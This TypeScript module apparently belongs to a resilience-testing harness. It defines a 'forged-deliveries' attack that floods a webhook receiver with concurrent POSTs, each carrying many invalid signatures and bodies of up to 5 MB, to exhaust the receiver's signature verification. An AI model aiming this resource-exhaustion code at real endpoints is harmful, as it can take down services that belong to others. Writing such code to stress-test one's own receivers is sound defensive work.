import type { Attack } from "./attack.js";
import { hammer } from "./hammer.js";

const WRONG = "0".repeat(64);
const FORGERIES = [
  { signatures: 230, body: Buffer.alloc(5 * 1024 * 1024) },
  { signatures: 10, body: Buffer.alloc(256 * 1024) },
  { signatures: 1, body: Buffer.alloc(64 * 1024) },
];

/** Forged deliveries at a customer's receiver, with a current timestamp and the maximum number of signatures to check. */
function forgedDeliveries(attack: Attack): Promise<void> {
  const { origin, pathname } = new URL(attack.known.receiver);
  return hammer(attack, {
    origin,
    connections: 4,
    next(turn) {
      const { signatures, body } = FORGERIES[turn % FORGERIES.length]!;
      const signature = `t=${Math.floor(Date.now() / 1000)}${`,v1=${WRONG}`.repeat(signatures)}`;
      return { method: "POST", path: `${pathname}/0`, headers: { "service-signature": signature }, body };
    },
  });
}

export const receiverAttacks = { "forged-deliveries": forgedDeliveries };
